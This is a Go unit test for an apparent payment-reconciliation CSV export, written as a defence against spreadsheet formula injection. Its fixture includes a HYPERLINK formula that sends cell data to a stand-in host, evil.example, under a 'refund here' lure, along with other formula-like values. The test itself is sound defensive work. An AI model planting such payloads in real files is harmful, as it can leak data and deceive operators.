package main

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/paykit-kr/paykit/reconcile"
)

// A PortOne payment id is chosen in the buyer's browser, and the report
// writes it as the key cell: an id starting with '=', '+', '-' or '@' (or
// a tab or CR) is a formula when the CSV is opened in a spreadsheet, the
// operator's usual tool for this report. Such text cells are prefixed with
// "'"; amount cells, and cells that are a plain integer (Bootpay's own
// status "-2"), stay numbers.
func TestReportCellsAreNeverFormulas(t *testing.T) {
	g := &reconcile.Record{Key: `=HYPERLINK("https://evil.example/?"&A1,"refund here")`, Amount: 100,
		Status: reconcile.StatusPaid, SourceStatus: "@SUM(1+1)", Currency: "+KRW"}
	m := &reconcile.Record{Key: g.Key, Amount: -100, Cancelled: -5, Status: reconcile.Status("\tpaid"), SourceStatus: "-2"}
	row := csvRow(reconcile.Discrepancy{Kind: reconcile.AmountDiffers, Key: g.Key, Gateway: g, Merchant: m})

	for i, cell := range row {
		require.False(t, strings.ContainsAny(cell[:min(1, len(cell))], "=+@\t\r"),
			"column %s is a spreadsheet formula: %q", csvHeader[i], cell)
	}
	byColumn := map[string]string{}
	for i, cell := range row {
		byColumn[csvHeader[i]] = cell
	}
	require.Equal(t, "'"+g.Key, byColumn["key"])
	require.Equal(t, "'@SUM(1+1)", byColumn["gateway_source_status"])
	require.Equal(t, "'+KRW", byColumn["gateway_currency"])
	require.Equal(t, "'\tpaid", byColumn["merchant_status"])
	require.Equal(t, "-2", byColumn["merchant_source_status"], "a plain integer is no formula")
	require.Equal(t, "-100", byColumn["merchant_amount"], "a negative amount stays a number")
	require.Equal(t, "-5", byColumn["merchant_cancelled"])
	require.Equal(t, "100", byColumn["gateway_amount"])
}
